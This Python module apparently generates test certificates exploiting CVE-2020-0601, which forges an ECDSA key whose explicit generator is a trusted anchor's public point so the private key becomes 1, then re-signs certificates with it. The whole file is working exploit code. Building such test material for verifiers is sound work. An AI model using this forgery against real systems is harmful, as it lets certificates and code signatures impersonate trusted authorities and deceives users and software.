# SPDX-License-Identifier: Apache-2.0
"""The forgery of CVE-2020-0601: a key with the anchor's public point, but with that point as
generator and 1 as private key. The only signatures not made by the openssl command, which refuses
such a key."""
import hashlib
import secrets

from der import children, content, integer, octets, sequence, tlv


def parameters(public_key):
    """p, a, b, n and the public point of a key with explicit parameters, and the elements to
    rebuild it."""
    algorithm, bits = [whole for _, whole, _ in children(content(public_key))]
    identifier, domain = [whole for _, whole, _ in children(content(algorithm))]
    parts = [whole for _, whole, _ in children(content(domain))]
    prime = int.from_bytes(content([w for _, w, _ in children(content(parts[1]))][1]), "big")
    a, b = [int.from_bytes(c, "big") for tag, _, c in children(content(parts[2])) if tag == 0x04]
    order = int.from_bytes(content(parts[4]), "big")
    point = content(bits)[1:]
    forged_domain = sequence(*parts[:3], octets(point), *parts[4:])
    forged_key = sequence(sequence(identifier, forged_domain), bits)
    half = (len(point) - 1) // 2
    generator = (
        int.from_bytes(point[1 : 1 + half], "big"),
        int.from_bytes(point[1 + half :], "big"),
    )
    return {"p": prime, "a": a, "b": b, "n": order, "generator": generator, "key": forged_key}


def add(curve, left, right):
    if left is None or right is None:
        return left or right
    p = curve["p"]
    if left[0] == right[0]:
        if (left[1] + right[1]) % p == 0:
            return None
        slope = (3 * left[0] * left[0] + curve["a"]) * pow(2 * left[1], -1, p) % p
    else:
        slope = (right[1] - left[1]) * pow(right[0] - left[0], -1, p) % p
    x = (slope * slope - left[0] - right[0]) % p
    return x, (slope * (left[0] - x) - left[1]) % p


def times(curve, point, factor):
    result = None
    while factor:
        if factor & 1:
            result = add(curve, result, point)
        point, factor = add(curve, point, point), factor >> 1
    return result


def sign(curve, data, digest):
    """ECDSA with private key 1 over the forged generator."""
    n = curve["n"]
    e = int.from_bytes(hashlib.new(digest, data).digest(), "big")
    k = secrets.randbelow(n - 1) + 1
    r = times(curve, curve["generator"], k)[0] % n
    s = pow(k, -1, n) * (e + r) % n
    return sequence(integer(r), integer(s))


def forge(certificate, curve, digest="sha384", replace_key=None):
    """The certificate with its signature (and key) replaced by the forger's."""
    body, algorithm, _ = [whole for _, whole, _ in children(content(certificate))]
    if replace_key:
        fields = [whole for _, whole, _ in children(content(body))]
        fields[6] = replace_key
        body = sequence(*fields)
    return sequence(body, algorithm, tlv(0x03, b"\x00" + sign(curve, body, digest)))
